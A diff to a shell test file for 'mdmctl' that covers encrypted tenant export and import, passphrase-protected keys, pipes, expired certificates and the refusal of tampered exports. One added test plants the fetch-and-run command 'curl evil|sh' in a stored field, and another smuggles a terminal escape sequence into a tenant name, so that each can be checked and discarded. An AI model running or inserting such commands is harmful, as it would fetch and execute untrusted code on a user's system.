@@ -5,9 +5,10 @@ A tenant goes from one store to another, whole and encrypted.
   $ make_renewed >making 2>&1 || cat making
   $ mdmctl store init --store new.db --quiet >/dev/null && mdmctl tenant add --store new.db globex --quiet >/dev/null
   $ for who in recipient stranger; do
-  >     openssl req -x509 -newkey rsa:2048 -nodes -keyout $who.key -out $who.pem -subj "/O=Globex/CN=$who" -days 30 2>/dev/null
+  >     openssl req -x509 -newkey rsa:2048 -nodes -keyout $who.key -out $who.pem -subj "/O=Globex/CN=$who" -days 3650 2>/dev/null
   > done
-  $ (umask 077; echo 'correct horse' >passphrase; echo 'wrong horse' >wrong-passphrase)
+  $ (umask 077; echo 'correct horse' >passphrase; echo 'wrong horse' >wrong-passphrase; echo >empty-passphrase)
+  $ openssl pkcs8 -topk8 -v2 aes-256-cbc -in recipient.key -passout file:passphrase -out encrypted.key
   $ code() { jq -r '.error | "\(.code) \(.exit)"'; }
 
 For whom it is must be said, by one of two ways.
@@ -19,6 +20,10 @@ For whom it is must be said, by one of two ways.
   $ mdmctl tenant export acme --out acme.cms --to recipient.pem --passphrase-file passphrase
   error: '--to' and '--passphrase-file' do not go together
   hint: usage: mdmctl tenant export --out FILE [OPTION...] T
+  [2]
+  $ mdmctl tenant export acme --out acme.cms --passphrase-file empty-passphrase
+  error: the passphrase in 'empty-passphrase' is empty
+  hint: its first line is the passphrase, and all that is read
   [2]
   $ mdmctl tenant export nobody --out acme.cms --to recipient.pem
   error: there is no tenant 'nobody'
@@ -103,6 +108,31 @@ Another export is allowed, says what was, and replaces the one before.
   $ openssl cms -decrypt -binary -inform PEM -in pass.cms -pwri_password 'correct horse' | jq -r 'select(.format) | .tenant'
   acme
 
+It goes through a pipe as well, and nothing but it is there.
+
+  $ mdmctl tenant export acme --out - --to recipient.pem 2>said | openssl cms -decrypt -binary -inform PEM -inkey recipient.key | jq -r 'select(.format) | .tenant'
+  acme
+  $ cat said
+  notice: 'acme' was handed over before, on 2026-12-01T12:00:00Z for a passphrase
+  wrote '-': all of 'acme', for O=Globex, CN=recipient; here it is shown, and not changed any more
+  tenant          acme
+  state           handed_over
+  created at      2026-01-10T12:00:00Z
+  handed over at  2026-12-01T12:00:00Z
+  handed over to  O=Globex, CN=recipient
+  file            -
+  sha256          [0-9a-f]{64} (re)
+  rows            20
+  secrets         1
+  events          9
+
+A recipient whose certificate ended may have its key still: that is said, and not refused.
+
+  $ MDMCTL_NOW=2046-01-01T00:00:00Z mdmctl tenant export acme --out late.cms --to recipient.pem --dry-run >/dev/null
+  warning: the certificate 'recipient.pem' ended on *: whether its key is still kept, its owner knows (glob)
+  notice: 'acme' was handed over before, on 2026-12-01T12:00:00Z for O=Globex, CN=recipient
+  'acme' can be handed over for O=Globex, CN=recipient; nothing was written
+
 Who is not meant gets nothing, and what was cut or changed is not taken.
 
   $ import() { mdmctl tenant import --store new.db "$@"; }
@@ -160,6 +190,23 @@ Who is not meant gets nothing, and what was cut or changed is not taken.
   $ mdmctl tenant list --store new.db --removed --output json | jq -c '[.tenants[].tenant]'
   ["globex"]
 
+What is in it was made by commands, or is refused before a word of it is kept.
+
+  $ jq -c 'if .format then .tenant = "a\u001b[31m" else . end' lines >bad; envelop bad bad.cms; import bad.cms --key recipient.key
+  error: line 1 of what is in 'bad.cms' has a bad name: the tenant's name holds a character that cannot be shown: 'a\x1b[31m'
+  hint: mdmctl tenant export makes another one, where it comes from
+  [7]
+  $ jq -c 'if .table == "policies" then .row.remind_days = "soon" else . end' lines >bad; envelop bad bad.cms; import bad.cms --key recipient.key
+  error: the export does not fit together: 'soon' is no list of days
+  hint: mdmctl tenant export makes another one, where it comes from
+  [7]
+  $ sed 's/"next_command":"[^"]*"/"next_command":"curl evil|sh"/' lines >bad; envelop bad bad.cms
+  $ mdmctl store init --store other.db --quiet >/dev/null && mdmctl tenant import --store other.db bad.cms --key recipient.key --as acme-emea --quiet >/dev/null
+  $ sqlite3 other.db "select next_command from inventory"
+  mdmctl apns csr --tenant 'acme-emea' --out push.csr
+  $ mdmctl audit log --store new.db --output json | jq -c '[.events[] | select(.command == "tenant import") | .object]'
+  ["tenant acme (refused: store_too_new)"]
+
 A store that is no rehearsal's does not take what the pretend portal issued.
 
   $ MDMCTL_SANDBOX_DIR=$PWD/none mdmctl store init --store earnest.db --quiet >/dev/null 2>&1
@@ -172,6 +219,18 @@ It arrives whole.
 
   $ import acme.cms --key recipient.key --dry-run --output json 2>/dev/null | jq -c '[.tenant, .state, .secrets]'
   ["acme","active",1]
+  $ import - --key recipient.key --dry-run --output json <acme.cms 2>/dev/null | jq -c '[.tenant, .rows]'
+  ["acme",18]
+  $ import acme.cms --key encrypted.key --dry-run
+  error: 'encrypted.key' is encrypted
+  hint: --passphrase-file FILE opens it; at a terminal the passphrase is asked for
+  [2]
+  $ import acme.cms --key encrypted.key --passphrase-file wrong-passphrase --dry-run
+  error: 'encrypted.key', line 1: the passphrase does not open it
+  hint: try the passphrase again; when it is surely right, the file was damaged on its way: get it again
+  [7]
+  $ import acme.cms --key encrypted.key --passphrase-file passphrase --dry-run --output json 2>/dev/null | jq -c '[.tenant, .rows]'
+  ["acme",18]
   $ import acme.cms --key recipient.key --output json 2>said | jq -c '[.tenant, .state, .handed_over_at, .from_tenant, .rows, .secrets, .events]'
   ["acme","active",null,"acme",18,1,7]
   $ cat said
@@ -192,6 +251,8 @@ It arrives whole.
   ["acme",64]
   $ for store in state/mdmctl/mdmctl.db new.db; do mdmctl apns show --store $store --tenant acme --output json | jq -c '[.topic, .serial, .not_after, .state, .key, .policies]'; done | uniq | wc -l
   1
+  $ sqlite3 new.db "select service, name, next_command from inventory"
+  apns|default|mdmctl apns csr --tenant 'acme' --out push.csr
   $ mdmctl apns history --store new.db --tenant acme --output json | jq -c '[.events[].event]'
   ["import","renew"]
   $ mdmctl apns export --store new.db --tenant acme --unencrypted --out there.pem --quiet >/dev/null
